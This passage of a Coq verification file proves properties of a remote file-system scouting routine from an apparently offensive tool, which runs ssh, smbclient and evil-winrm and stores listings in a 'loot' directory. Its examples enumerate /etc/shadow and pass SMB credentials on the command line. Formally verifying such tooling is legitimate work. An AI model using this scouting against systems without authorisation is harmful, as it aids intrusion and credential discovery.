  - left. now rewrite E.
  - set (x := dropSpaces spaceWidth 0 s) in *.
    destruct (TrimRightSpace_prefix x) as [t Ht].
    destruct (Nat.eq_dec (spaceWidth (TrimRightSpace x)) 0) as [Z|NZ]; [now right|].
    exfalso. apply NZ. rewrite <- (spaceWidth_extend _ t NZ), <- Ht. exact E.
Qed.

Lemma TrimLeftSpace_fixed (s : string) :
  spaceWidth s = 0 -> TrimLeftSpace s = s.
Proof.
  unfold TrimLeftSpace. destruct s as [|c s]; [reflexivity|].
  intros H. simpl dropSpaces. unfold spaceWidth in H |- *.
  now rewrite H.
Qed.

Lemma takeToken_nonempty (s : string) :
  s <> "" -> spaceWidth s = 0 -> Contract.takeToken s <> "".
Proof.
  destruct s as [|c s]; [congruence|]. intros _ H.
  cbn [Contract.takeToken]. rewrite H. discriminate.
Qed.

(** The first field [Fields] returns is the first token. *)
Lemma fieldsFrom_head (s : string) :
  forall cur,
    cur <> "" \/ (s <> "" /\ spaceWidth s = 0) ->
    exists rest, fieldsFrom 0 cur s = (cur ++ Contract.takeToken s) :: rest.
Proof.
  induction s as [|c s IH]; intros cur H.
  - destruct H as [H|[H _]]; [|congruence].
    exists []. simpl. rewrite append_nil_r. destruct cur; [congruence|reflexivity].
  - cbn [fieldsFrom Contract.takeToken].
    destruct (spaceWidth (String c s)) as [|k] eqn:E.
    + destruct (IH (cur ++ String c "")) as [rest Hr].
      { left. intros F. apply append_eq_nil in F. destruct F; discriminate. }
      exists rest. rewrite Hr, append_assoc. reflexivity.
    + destruct H as [H|[_ H]]; [|congruence].
      exists (fieldsFrom k "" s). rewrite append_nil_r.
      destruct cur; [congruence|reflexivity].
Qed.

Lemma Fields_head (l : string) :
  l <> "" -> spaceWidth l = 0 ->
  exists rest, Fields l = Contract.takeToken l :: rest.
Proof.
  intros H1 H2. destruct (fieldsFrom_head l "") as [rest Hr]; [now right|].
  exists rest. exact Hr.
Qed.

End WhiteSpace.

(** ** SMB normalisation *)

Section SMBNormalisation.

Import Contract.

Lemma firstToken_trimmed (line : string) :
  strings.TrimSpace line <> "" ->
  firstToken (strings.TrimSpace line) = takeToken (strings.TrimSpace line)
  /\ takeToken (strings.TrimSpace line) <> ""
  /\ exists rest,
       strings.Fields (strings.TrimSpace line)
       = takeToken (strings.TrimSpace line) :: rest.
Proof.
  intros NE. destruct (TrimSpace_head line) as [E|E]; [congruence|].
  unfold firstToken. rewrite (TrimLeftSpace_fixed _ E).
  split; [reflexivity|]. split.
  - now apply takeToken_nonempty.
  - now apply Fields_head.
Qed.

Lemma smbLine_record (buf line : string) :
  core.smbLine buf line = buf ++ render (optList (smbRecord line)).
Proof.
  unfold core.smbLine, smbRecord.
  destruct (strings.TrimSpace line =? "") eqn:E.
  - simpl. now rewrite append_nil_r.
  - apply String.eqb_neq in E.
    destruct (strings.Contains (strings.TrimSpace line) "NT_STATUS_ACCESS_DENIED").
    + reflexivity.
    + destruct (firstToken_trimmed line E) as (Hf & _ & rest & Hr).
      rewrite Hr, Hf.
      destruct (takeToken (strings.TrimSpace line) =? ".");
        destruct (takeToken (strings.TrimSpace line) =? "..");
        simpl; rewrite ?append_nil_r; reflexivity.
Qed.

Lemma fold_smbLine (lines : list string) (buf : string) :
  fold_left core.smbLine lines buf
  = buf ++ render (flat_map (fun line => optList (smbRecord line)) lines).
Proof.
  revert buf; induction lines as [|l lines IH]; intros buf.
  - simpl. now rewrite append_nil_r.
  - cbn [fold_left flat_map]. rewrite IH, smbLine_record.
    unfold render. now rewrite concat_nil_app, append_assoc.
Qed.

Lemma smbArtifact_records (raw : string) :
  core.smbArtifact raw = render (smbRecords raw).
Proof. unfold core.smbArtifact. now rewrite fold_smbLine. Qed.

(** C7. [parseAndWriteSMBOutput] writes, in raw-line order, the record of
    each line as the contract gives it: nothing for a line that is blank
    once trimmed; [DENIED|] with the trimmed line when that contains
    NT_STATUS_ACCESS_DENIED; otherwise [FILE|] with the first
    white-space-delimited token, unless the token is "." or "..", which
    drops the line. A line that is not blank always has such a token, and
    it is the first element [strings.Fields] returns. The three lines of
    the specification's example yield the records it names. *)
Theorem C7_smb_normalisation :
  (forall outPath raw w,
      core.parseAndWriteSMBOutput outPath raw w
      = (os_WriteFile w outPath (render (smbRecords raw)),
         [EvWriteFile outPath (render (smbRecords raw))]))
  /\ (forall line,
         let l := strings.TrimSpace line in
         smbRecord line
         = if l =? "" then None
           else if strings.Contains l "NT_STATUS_ACCESS_DENIED"
                then Some ("DENIED|" ++ l ++ nl)
                else if (firstToken l =? ".") || (firstToken l =? "..") then None
                     else Some ("FILE|" ++ firstToken l ++ nl))
  /\ (forall line,
         let l := strings.TrimSpace line in
         l = ""
         \/ (firstToken l <> "" /\ hd_error (strings.Fields l) = Some (firstToken l)))
  /\ smbRecord "NT_STATUS_ACCESS_DENIED listing \x"
     = Some ("DENIED|NT_STATUS_ACCESS_DENIED listing \x" ++ nl)
  /\ smbRecord "  secret.txt    A    0  Mon Jan  1 00:00:00 2024"
     = Some ("FILE|secret.txt" ++ nl)
  /\ smbRecord "  .                                   D        0  Mon Jan  1 00:00:00 2024" = None
  /\ smbRecord "  ..                                  D        0  Mon Jan  1 00:00:00 2024" = None
  /\ smbRecord "   " = None.
Proof.
  split; [|split; [|split; [|repeat split]]].
  - intros. unfold core.parseAndWriteSMBOutput, os_WriteFile_.
    now rewrite smbArtifact_records.
  - reflexivity.
  - intros line l. subst l.
    destruct (string_dec (strings.TrimSpace line) "") as [E|NE]; [now left|right].
    destruct (firstToken_trimmed line NE) as (Hf & Hn & rest & Hr).
    rewrite Hf, Hr. split; [exact Hn | reflexivity].
Qed.

End SMBNormalisation.

(** ** The scout runner *)

Section Runner.

Import Contract.

Ltac io := unfold bind, ret, os_MkdirAll_, time_Now_Format_, os_WriteFile_, cmd_Run,
             os_Stat_, os_UserHomeDir_, emit.

(** [RunFSScout] on a request that passes the checks at its head, with
    its sequencing written out. *)
Lemma RunFSScout_checked (req : FSScoutRequest) (w : World) :
  missingField req = false ->
  core.RunFSScout req w =
  let '(lootDir, err, t0) := core.DefaultLootDir w in
  match err with
  | Some e => (core.zeroResult, Some e, t0)
  | None =>
      let fsBase := fsBaseOf lootDir req in
      match os_MkdirAll w fsBase with
      | Some e => (core.zeroResult, Some e, (t0 ++ [EvMkdirAll fsBase])%list)
      | None =>
          let outPath := outPathOf lootDir (time_Now_Format w core.tsLayout) req in
          let '(runErr, t1) := core.dispatch (defaulted req) outPath w in
          let res := core.mkResult outPath (Protocol req) (Mode (defaulted req)) (Host req) "" in
          (match runErr with
           | Some e => (core.withError res (Error e), Some e)
           | None => (res, None)
           end, (t0 ++ EvMkdirAll fsBase :: t1)%list)
      end
  end.
Proof.
  unfold missingField. intros H.
  apply orb_false_elim in H; destruct H as [H Hs].
  apply orb_false_elim in H; destruct H as [H Hp].
  apply orb_false_elim in H; destruct H as [Hh Hu].
  unfold core.RunFSScout. rewrite Hh, Hu, Hp, Hs. cbn [orb].
  fold (defaulted req).
  assert (Hhost : Host (defaulted req) = Host req).
  { unfold defaulted. destruct (Depth req <=? 0)%Z;
      destruct (Mode _ =? ""); reflexivity. }
  assert (Hproto : Protocol (defaulted req) = Protocol req).
  { unfold defaulted. destruct (Depth req <=? 0)%Z;
      destruct (Mode _ =? ""); reflexivity. }
  unfold bind at 1.
  destruct (core.DefaultLootDir w) as [[lootDir [e|]] t0].
  - unfold ret. now rewrite app_nil_r.
  - unfold bind at 1. unfold os_MkdirAll_ at 1.
    unfold fsBaseOf, outPathOf. fold (fsBaseOf lootDir req). rewrite Hhost, Hproto.
    destruct (os_MkdirAll w _) as [e|].
    + unfold ret. cbn [app]. reflexivity.
    + unfold bind at 1. unfold time_Now_Format_ at 1. unfold bind at 1.
      destruct (core.dispatch _ _ w) as [[e|] t1]; unfold ret; cbn [app];
        rewrite ?app_nil_r; reflexivity.
Qed.

Lemma silent_ret (P : Event -> bool) {A : Type} (a : A) : silent P (ret a).
Proof. intros w. reflexivity. Qed.

Lemma silent_bind (P : Event -> bool) {A B : Type} (m : IO A) (k : A -> IO B) :
  silent P m -> (forall a, silent P (k a)) -> silent P (bind m k).
Proof.
  intros Hm Hk w. unfold bind.
  specialize (Hm w). destruct (m w) as [a t1].
  specialize (Hk a w). destruct (k a w) as [b t2].
  cbn [snd] in *. now rewrite existsb_app, Hm, Hk.
Qed.

Lemma silent_home (P : Event -> bool) : silent P os_UserHomeDir_.
Proof. intros w. reflexivity. Qed.

Lemma silent_now (P : Event -> bool) (layout : string) : silent P (time_Now_Format_ layout).
Proof. intros w. reflexivity. Qed.

Lemma silent_stat (P : Event -> bool) (p : string) :
  P (EvStat p) = false -> silent P (os_Stat_ p).
Proof. intros H w. cbn. now rewrite H. Qed.

(** The lookup of the loot directory only reads. *)
Lemma DefaultLootDir_reads (w : World) :
  existsb isSpawn (snd (core.DefaultLootDir w)) = false
  /\ existsb isWrite (snd (core.DefaultLootDir w)) = false
  /\ existsb isMkdir (snd (core.DefaultLootDir w)) = false.
Proof.
  assert (H : forall P, (forall p, P (EvStat p) = false) ->
                        silent P core.DefaultLootDir).
  { intros P HP.
    unfold core.DefaultLootDir, core.DefaultAppDataDir, core.LegacyAppDataDirPath.
    repeat first
      [ apply silent_ret | apply silent_home | apply silent_stat; apply HP
      | apply silent_bind; [| intros ?]
      | match goal with
        | |- silent _ (match ?x with _ => _ end) => destruct x
        | |- silent _ (if ?x then _ else _) => destruct x
        end ]. }
  repeat split; apply H; reflexivity.
Qed.

Lemma existsb_app_false {A : Type} (f : A -> bool) (xs ys : list A) :
  existsb f xs = false -> existsb f ys = false -> existsb f (xs ++ ys) = false.
Proof. intros H1 H2. now rewrite existsb_app, H1, H2. Qed.

(** The SMB backend without a share name does nothing. *)
Lemma runFSScoutSMB_no_share (req : FSScoutRequest) (outPath : string) (w : World) :
  SMBShare req = "" ->
  core.runFSScoutSMB req outPath w
  = (Some (errors_New "SMB share name is required for smb protocol"), []).
Proof. intros H. unfold core.runFSScoutSMB. now rewrite H. Qed.

Lemma defaulted_fields (req : FSScoutRequest) :
  Protocol (defaulted req) = Protocol req
  /\ Host (defaulted req) = Host req
  /\ SMBShare (defaulted req) = SMBShare req
  /\ Username (defaulted req) = Username req
  /\ Password (defaulted req) = Password req
  /\ StartDir (defaulted req) = StartDir req
  /\ Port (defaulted req) = Port req.
Proof.
  unfold defaulted.
  destruct (Depth req <=? 0)%Z; destruct (Mode _ =? ""); repeat split.
Qed.

(** A request that fails a check at the head of [RunFSScout] has no
    effect at all. *)
Lemma RunFSScout_missing (req : FSScoutRequest) (w : World) :
  missingField req = true ->
  exists e, core.RunFSScout req w = (core.zeroResult, Some e, []).
Proof.
  unfold missingField, core.RunFSScout. intros M.
  destruct (Host req =? ""); [eexists; reflexivity|].
  destruct (Username req =? ""); [eexists; reflexivity|].
  destruct (Password req =? ""); [eexists; reflexivity|].
  destruct (StartDir req =? ""); [eexists; reflexivity|discriminate].
Qed.

(** A request that passes them and is refused by the [switch] without
    any effect: the only effects are the lookup of the loot directory and
    the creation of the host directory. *)
Lemma RunFSScout_refused (req : FSScoutRequest) (w : World) (e : GoError) :
  missingField req = false ->
  (forall outPath, core.dispatch (defaulted req) outPath w = (Some e, [])) ->
  (exists e', snd (fst (core.RunFSScout req w)) = Some e')
  /\ existsb isSpawn (snd (core.RunFSScout req w)) = false
  /\ existsb isWrite (snd (core.RunFSScout req w)) = false
  /\ (forall lootDir t0,
         core.DefaultLootDir w = (lootDir, None, t0) ->
         os_MkdirAll w (fsBaseOf lootDir req) = None ->
         core.RunFSScout req w
         = (core.mkResult (outPathOf lootDir (time_Now_Format w core.tsLayout) req)
                          (Protocol req) (Mode (defaulted req)) (Host req) (Error e),
            Some e,
            (t0 ++ [EvMkdirAll (fsBaseOf lootDir req)])%list)).
Proof.
  intros M Hd.
  rewrite (RunFSScout_checked req w M).
  pose proof (DefaultLootDir_reads w) as (Rs & Rw & _).
  destruct (core.DefaultLootDir w) as [[lootDir [e0|]] t0]; cbn [snd fst] in Rs, Rw.
  - cbn [snd fst]. split; [eauto|]. split; [exact Rs|]. split; [exact Rw|].
    intros l t1 F. discriminate F.
  - cbv zeta. destruct (os_MkdirAll w (fsBaseOf lootDir req)) as [e0|] eqn:Emk.
    + cbn [snd fst]. split; [eauto|].
      split; [apply existsb_app_false; [exact Rs | reflexivity]|].
      split; [apply existsb_app_false; [exact Rw | reflexivity]|].
      intros l t1 F Hmk. injection F as <- <-. congruence.
    + rewrite Hd. cbn [snd fst]. split; [eauto|].
      split; [apply existsb_app_false; [exact Rs | reflexivity]|].
      split; [apply existsb_app_false; [exact Rw | reflexivity]|].
      intros l t1 F Hmk. injection F as <- <-. reflexivity.
Qed.

(** C3, counterexample. An SMB request without a share name, otherwise
    complete, is invalid, yet [RunFSScout] has looked up the application
    data directory and created the host directory under the loot root
    before the SMB backend rejects it; and the result it returns is not the
    empty one. *)
Lemma C3_counterexample :
  invalidRequest Examples.smbNoShare
  /\ core.RunFSScout Examples.smbNoShare Examples.calm
     = (core.mkResult "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_smb_fast.txt"
                      "smb" "fast" "10.0.0.5"
                      "SMB share name is required for smb protocol",
        Some (errors_New "SMB share name is required for smb protocol"),
        [EvStat "/home/op/.local/share/PivotOnTheGO";
         EvMkdirAll "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5"])
  /\ ~ rejectedBeforeIO Examples.smbNoShare Examples.calm.
Proof.
  assert (E : core.RunFSScout Examples.smbNoShare Examples.calm
     = (core.mkResult "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_smb_fast.txt"
                      "smb" "fast" "10.0.0.5"
                      "SMB share name is required for smb protocol",
        Some (errors_New "SMB share name is required for smb protocol"),
        [EvStat "/home/op/.local/share/PivotOnTheGO";
         EvMkdirAll "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5"]))
    by (vm_compute; reflexivity).
  split; [|split].
  - right; right; right; right. split; reflexivity.
  - exact E.
  - intros [e He]. rewrite E in He. discriminate.
Qed.

(** C3, as amended. A request with an empty host, user name, password or
    start directory (each alone suffices) is rejected with the empty
    result and without any effect: nothing is read, created, spawned or
    written. An SMB request without a share name whose other fields are
    present is rejected as well, in every world, without any process
    spawned and without any file written; but the rejection comes from
    the SMB backend, after the loot directory has been looked up and the
    host directory created: where both succeed, the effects are those of
    the lookup followed by the [MkdirAll] of the host directory, and the
    error is the share-name error. *)
Theorem C3_validation (req : FSScoutRequest) (w : World) :
  invalidRequest req ->
  (exists e, snd (fst (core.RunFSScout req w)) = Some e)
  /\ existsb isSpawn (snd (core.RunFSScout req w)) = false
  /\ existsb isWrite (snd (core.RunFSScout req w)) = false
  /\ (missingField req = true ->
      exists e, core.RunFSScout req w = (core.zeroResult, Some e, []))
  /\ (missingField req = false ->
      forall lootDir t0,
        core.DefaultLootDir w = (lootDir, None, t0) ->
        os_MkdirAll w (fsBaseOf lootDir req) = None ->
        snd (fst (core.RunFSScout req w))
        = Some (errors_New "SMB share name is required for smb protocol")
        /\ snd (core.RunFSScout req w) = (t0 ++ [EvMkdirAll (fsBaseOf lootDir req)])%list).
Proof.
  intros Hinv.
  destruct (missingField req) eqn:M.
  - destruct (RunFSScout_missing req w M) as [e R]. rewrite R. cbn.
    repeat split; eauto; discriminate.
  - assert (Hsmb : Protocol req = core.FSProtocolSMB /\ SMBShare req = "").
    { unfold missingField in M.
      apply orb_false_elim in M; destruct M as [M Hs].
      apply orb_false_elim in M; destruct M as [M Hp].
      apply orb_false_elim in M; destruct M as [Hh Hu].
      destruct Hinv as [H|[H|[H|[H|H]]]]; try exact H;
        rewrite H in *; discriminate. }
    destruct Hsmb as [Hproto Hshare].
    destruct (defaulted_fields req) as (Dp & _ & Ds & _).
    assert (Hd : forall outPath,
               core.dispatch (defaulted req) outPath w
               = (Some (errors_New "SMB share name is required for smb protocol"), [])).
    { intros outPath. unfold core.dispatch. rewrite Dp, Hproto.
      change ((core.FSProtocolSMB =? core.FSProtocolSSH)) with false.
      change ((core.FSProtocolSMB =? core.FSProtocolSMB)) with true.
      cbv iota. apply runFSScoutSMB_no_share. now rewrite Ds. }
    destruct (RunFSScout_refused req w _ M Hd) as (He & Hs & Hw & Hr).
    split; [exact He|]. split; [exact Hs|]. split; [exact Hw|].
    split; [discriminate|].
    intros _ lootDir t0 HL HM. rewrite (Hr lootDir t0 HL HM). split; reflexivity.
Qed.

Lemma C3_validation_witness :
  invalidRequest Examples.smbNoShare
  /\ existsb isSpawn (snd (core.RunFSScout Examples.smbNoShare Examples.calm)) = false
  /\ existsb isWrite (snd (core.RunFSScout Examples.smbNoShare Examples.calm)) = false.
Proof.
  assert (H : invalidRequest Examples.smbNoShare).
  { right; right; right; right. split; reflexivity. }
  split; [exact H|].
  pose proof (C3_validation Examples.smbNoShare Examples.calm H) as (_ & Hs & Hw & _).
  split; [exact Hs | exact Hw].
Defined.

(** C8, counterexample. An FTP request with an empty host: the error is
    the validation error, not the not-implemented error, the result is
    the empty one, whose error field is empty, and no host directory is
    created. *)
Lemma C8_counterexample :
  Protocol (mkRequest "ftp" "" 0 "anonymous" "guest" "" "/pub" 0 "") = core.FSProtocolFTP
  /\ core.RunFSScout (mkRequest "ftp" "" 0 "anonymous" "guest" "" "/pub" 0 "") Examples.calm
     = (core.zeroResult, Some (errors_New "host is required"), [])
  /\ errors_New "host is required" <> errors_New ftpMessage
  /\ core.ResError core.zeroResult = ""
  /\ existsb isMkdir
       (snd (core.RunFSScout (mkRequest "ftp" "" 0 "anonymous" "guest" "" "/pub" 0 "")
                             Examples.calm)) = false.
Proof. repeat split; try reflexivity. discriminate. Qed.

(** C8, as amended. A request for FTP never succeeds, never spawns a
    process and never writes a file, in any world. When a mandatory field
    is missing it is rejected by the validation, with the empty result and
    before any effect, the creation of the host directory included. When
    its mandatory fields are present and the host directory
    [<loot>/fs/<sanitized host>] could be created, the error is the
    not-implemented error, the result carries its (non-empty) message with
    the artifact path, protocol, mode and host filled in, and the only
    effects are the lookup of the loot directory followed by the creation
    of the host directory. *)
Theorem C8_ftp_not_implemented (req : FSScoutRequest) (w : World) :
  Protocol req = core.FSProtocolFTP ->
  (exists e, snd (fst (core.RunFSScout req w)) = Some e)
  /\ existsb isSpawn (snd (core.RunFSScout req w)) = false
  /\ existsb isWrite (snd (core.RunFSScout req w)) = false
  /\ (forall lootDir t0,
         missingField req = false ->
         core.DefaultLootDir w = (lootDir, None, t0) ->
         os_MkdirAll w (fsBaseOf lootDir req) = None ->
         core.RunFSScout req w
         = (core.mkResult (outPathOf lootDir (time_Now_Format w core.tsLayout) req)
                          core.FSProtocolFTP (Mode (defaulted req)) (Host req) ftpMessage,
            Some (errors_New ftpMessage),
            (t0 ++ [EvMkdirAll (fsBaseOf lootDir req)])%list))
  /\ (missingField req = true ->
      exists e, core.RunFSScout req w = (core.zeroResult, Some e, []))
  /\ ftpMessage <> "".
Proof.
  intros Hproto.
  assert (Hne : ftpMessage <> "") by discriminate.
  destruct (missingField req) eqn:M.
  - destruct (RunFSScout_missing req w M) as [e R]. rewrite R. cbn [fst snd existsb].
    repeat split; eauto; discriminate.
  - destruct (defaulted_fields req) as (Dp & _).
    assert (Hd : forall outPath,
               core.dispatch (defaulted req) outPath w
               = (Some (errors_New ftpMessage), [])).
    { intros outPath. unfold core.dispatch. rewrite Dp, Hproto. reflexivity. }
    destruct (RunFSScout_refused req w _ M Hd) as (He & Hs & Hw & Hr).
    split; [exact He|]. split; [exact Hs|]. split; [exact Hw|].
    split; [|split; [discriminate | exact Hne]].
    intros lootDir t0 _ HL HM. rewrite (Hr lootDir t0 HL HM), Hproto. reflexivity.
Qed.

Lemma C8_ftp_witness :
  Protocol Examples.ftpReq = core.FSProtocolFTP
  /\ core.RunFSScout Examples.ftpReq Examples.calm
     = (core.mkResult "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_ftp_fast.txt"
                      "ftp" "fast" "10.0.0.5" ftpMessage,
        Some (errors_New ftpMessage),
        [EvStat "/home/op/.local/share/PivotOnTheGO";
         EvMkdirAll "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5"]).
Proof.
  split; [reflexivity|].
  pose proof (C8_ftp_not_implemented Examples.ftpReq Examples.calm eq_refl)
    as (_ & _ & _ & H & _).
  rewrite (H Examples.lootDir [EvStat "/home/op/.local/share/PivotOnTheGO"]);
    reflexivity.
Defined.

(** ** Command outcome and write outcome *)

(** The two effects of a backend and what it returns. *)
Lemma runBackend_outcomes (b : Backend) (req : FSScoutRequest) (outPath : string) (w : World) :
  shareGiven b req = true ->
  let p := exec_Run w (backendName b) (backendArgs b req) in
  let artifact := backendArtifact b p in
  runBackend b req outPath w
  = (match exitErr p with
     | Some e => Some (backendFailure b e)
     | None => os_WriteFile w outPath artifact
     end,
     [EvRun (backendName b) (backendArgs b req); EvWriteFile outPath artifact]).
Proof.
  intros Hs p artifact. subst p artifact.
  destruct b; cbn [runBackend backendName backendArgs backendArtifact backendFailure].
  - unfold core.runFSScoutSSH, core.writeFSScoutOutputSSH. io.
    destruct (exitErr (exec_Run w "ssh" (core.sshArgs req))); reflexivity.
  - unfold core.runFSScoutSMB, core.parseAndWriteSMBOutput.
    cbn [shareGiven] in Hs. apply negb_true_iff in Hs. rewrite Hs. io.
    destruct (exitErr (exec_Run w "smbclient" (core.smbArgs req))); reflexivity.
  - unfold core.runFSScoutEvilWinRM, core.parseAndWriteFSOutputGeneric. io.
    destruct (exitErr (exec_Run w "evil-winrm" (core.winrmArgs req))); reflexivity.
Qed.


(** C4, as amended. Each backend that runs an external command (SSH,
    Evil-WinRM, and SMB once a share name is given) performs exactly two
    effects, whatever the command's outcome: it runs the command, then
    writes the normalised captured output to the artifact path. A command
    failure is reported whatever the write did, so a write failure never
    masks it; the outcome of the write is what is returned only when the
    command succeeded. *)
Theorem C4_backend_outcomes (b : Backend) (req : FSScoutRequest) (outPath : string) (w : World) :
  shareGiven b req = true ->
  let p := exec_Run w (backendName b) (backendArgs b req) in
  let artifact := backendArtifact b p in
  runBackend b req outPath w
  = (match exitErr p with
     | Some e => Some (backendFailure b e)
     | None => os_WriteFile w outPath artifact
     end,
     [EvRun (backendName b) (backendArgs b req); EvWriteFile outPath artifact]).
Proof. exact (runBackend_outcomes b req outPath w). Qed.

Lemma C4_backend_outcomes_witness :
  shareGiven SSH Examples.sshReq = true
  /\ runBackend SSH Examples.sshReq "out.txt"
       (Examples.world (mkProc Examples.sshOutput (Some Examples.exitFailure))
                       (Some Examples.diskFull) None None)
     = (Some (errors_New "ssh command failed: exit status 255"),
        [EvRun "ssh" ["-p"; "22"; "root@10.0.0.5"; "find"; "/etc"; "-maxdepth"; "0";
                      "-type"; "f"; "-printf"; "%p" ++ nl];
         EvWriteFile "out.txt"
                     ("FILE|/etc/passwd" ++ nl ++ "FILE|/etc/shadow" ++ nl
                      ++ "DENIED|find: '/root': Permission denied" ++ nl)]).
Proof.
  split; [reflexivity|].
  rewrite (C4_backend_outcomes SSH Examples.sshReq "out.txt" _ eq_refl).
  reflexivity.
Defined.

(** C4, counterexample. Two worlds in which the [ssh] command fails alike;
    in the first every write succeeds, in the second every write fails.
    [RunFSScout] returns the same result and the same error in both: the
    caller cannot tell the outcome of the write from what it is given. *)
Lemma C4_counterexample :
  let failing := mkProc Examples.sshOutput (Some Examples.exitFailure) in
  let saved := Examples.world failing None None None in
  let lost := Examples.world failing (Some Examples.diskFull) None None in
  (forall path data, os_WriteFile saved path data = None)
  /\ (forall path data, os_WriteFile lost path data = Some Examples.diskFull)
  /\ fst (core.RunFSScout Examples.sshReq saved)
     = fst (core.RunFSScout Examples.sshReq lost)
  /\ fst (core.RunFSScout Examples.sshReq lost)
     = (core.mkResult "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_ssh_fast.txt"
                      "ssh" "fast" "10.0.0.5" "ssh command failed: exit status 255",
        Some (errors_New "ssh command failed: exit status 255")).
Proof.
  cbv zeta. split; [reflexivity|]. split; [reflexivity|].
  split; vm_compute; reflexivity.
Qed.

(** ** The password of an SSH request *)

Lemma sshArgs_withPassword (req : FSScoutRequest) (pw : string) :
  core.sshArgs (withPassword req pw)
  = ["-p"; itoa (if (Port req =? 0)%Z then 22%Z else Port req);
     Username req ++ "@" ++ Host req;
     "find"; StartDir req;
     "-maxdepth"; itoa (Depth req);
     "-type"; "f";
     "-printf"; "%p" ++ nl].
Proof. reflexivity. Qed.

Lemma defaulted_withPassword (req : FSScoutRequest) (pw : string) :
  defaulted (withPassword req pw) = withPassword (defaulted req) pw.
Proof.
  unfold defaulted. cbn [withPassword Depth Mode].
  destruct (Depth req <=? 0)%Z; cbn [core.withDepth withPassword Mode];
    destruct (Mode req =? ""); reflexivity.
Qed.

Lemma dispatch_ssh_password (req : FSScoutRequest) (pw1 pw2 outPath : string) (w : World) :
  Protocol req = core.FSProtocolSSH ->
  core.dispatch (withPassword req pw1) outPath w
  = core.dispatch (withPassword req pw2) outPath w.
Proof.
  intros Hp. unfold core.dispatch. cbn [withPassword Protocol]. rewrite Hp.
  change (core.FSProtocolSSH =? core.FSProtocolSSH) with true. cbv iota.
  unfold core.runFSScoutSSH. now rewrite !sshArgs_withPassword.
Qed.

(** An SSH request runs the same whatever its (non-empty) password. *)
Lemma RunFSScout_ssh_password (req : FSScoutRequest) (pw1 pw2 : string) (w : World) :
  Protocol req = core.FSProtocolSSH -> pw1 <> "" -> pw2 <> "" ->
  core.RunFSScout (withPassword req pw1) w = core.RunFSScout (withPassword req pw2) w.
Proof.
  intros Hp H1 H2. apply String.eqb_neq in H1, H2.
  destruct (missingField (withPassword req pw1)) eqn:M1.
  - unfold missingField in M1. cbn [withPassword Host Username Password StartDir] in M1.
    unfold core.RunFSScout. cbn [withPassword Host Username Password StartDir].
    rewrite H1 in M1. rewrite H1, H2.
    destruct (Host req =? ""); [reflexivity|].
    destruct (Username req =? ""); [reflexivity|]. cbn [orb] in *.
    destruct (StartDir req =? ""); [reflexivity|discriminate].
  - assert (M2 : missingField (withPassword req pw2) = false).
    { unfold missingField in *. cbn [withPassword Host Username Password StartDir] in *.
      rewrite H1 in M1. now rewrite H2. }
    rewrite (RunFSScout_checked _ w M1), (RunFSScout_checked _ w M2).
    unfold outPathOf, fsBaseOf. rewrite !defaulted_withPassword.
    destruct (defaulted_fields req) as (Dp & _).
    cbn [withPassword Host Protocol Mode].
    destruct (core.DefaultLootDir w) as [[lootDir [e|]] t0]; [reflexivity|].
    cbv zeta. destruct (os_MkdirAll w _) as [e|]; [reflexivity|].
    rewrite (dispatch_ssh_password (defaulted req) pw1 pw2); [reflexivity|].
    now rewrite Dp.
Qed.

(** C9. The argument vector built for [ssh] is a function of the port,
    user name, host, start directory and depth alone: two requests that
    differ only in the password yield the same vector, and the SSH backend
    behaves identically on them, effect for effect: it runs [ssh] with that
    vector, then writes the artifact. The whole run of [RunFSScout] is the
    same for them too, as long as both passwords pass the validation. *)
Theorem C9_ssh_password_not_transmitted :
  forall (req : FSScoutRequest) (pw1 pw2 outPath : string) (w : World),
    core.sshArgs (withPassword req pw1) = core.sshArgs (withPassword req pw2)
    /\ core.runFSScoutSSH (withPassword req pw1) outPath w
       = core.runFSScoutSSH (withPassword req pw2) outPath w
    /\ (exists data,
         snd (core.runFSScoutSSH (withPassword req pw1) outPath w)
         = [EvRun "ssh" (core.sshArgs (withPassword req pw2)); EvWriteFile outPath data])
    /\ (Protocol req = core.FSProtocolSSH -> pw1 <> "" -> pw2 <> "" ->
        core.RunFSScout (withPassword req pw1) w
        = core.RunFSScout (withPassword req pw2) w).
Proof.
  intros req pw1 pw2 outPath w.
  assert (A : core.sshArgs (withPassword req pw1) = core.sshArgs (withPassword req pw2))
    by now rewrite !sshArgs_withPassword.
  split; [exact A|]. split; [|split].
  - unfold core.runFSScoutSSH. now rewrite A.
  - pose proof (runBackend_outcomes SSH (withPassword req pw1) outPath w eq_refl) as H.
    cbv zeta in H. cbn [runBackend backendName backendArgs] in H.
    rewrite H, A. cbn [snd]. eexists. reflexivity.
  - apply RunFSScout_ssh_password.
Qed.

Lemma C9_ssh_password_witness :
  core.RunFSScout (withPassword Examples.sshReq "hunter2") Examples.calm
  = core.RunFSScout (withPassword Examples.sshReq "correct horse") Examples.calm.
Proof.
  refine (proj2 (proj2 (proj2 (C9_ssh_password_not_transmitted
                                 Examples.sshReq "hunter2" "correct horse" "" Examples.calm)))
                eq_refl _ _); discriminate.
Defined.

(** The SMB backend, by contrast, passes the password on. *)
Example smbArgs_carry_password :
  core.smbArgs (mkRequest "smb" "10.0.0.5" 0 "guest" "s3cret" "docs" "/" 3 "fast")
  = ["//10.0.0.5/docs"; "-U"; "guest%s3cret"; "-c"; "recurse; ls"].
Proof. reflexivity. Qed.

End Runner.

(** ** Paths *)

Section Paths.

Import Contract.

Lemma Split_app (a b : string) (sep : ascii) :
  strings.Split (a ++ String sep b) sep
  = (strings.Split a sep ++ strings.Split b sep)%list.
Proof.
  unfold strings.Split. induction a as [|c a IH]; cbn [append strings.splitCons].
  - rewrite Ascii.eqb_refl. destruct (strings.splitCons b sep). reflexivity.
  - destruct (strings.splitCons (a ++ String sep b) sep) as [h t].
    destruct (strings.splitCons a sep) as [h1 t1].
    destruct (strings.splitCons b sep) as [h2 t2].
    injection IH as -> ->.
    destruct (Ascii.eqb c sep); reflexivity.
Qed.

Lemma isRooted_app (a b : string) :
  a <> "" -> filepath.isRooted (a ++ b) = filepath.isRooted a.
Proof. destruct a; [congruence | reflexivity]. Qed.

(** Appending an element and [".."] to a path changes nothing once
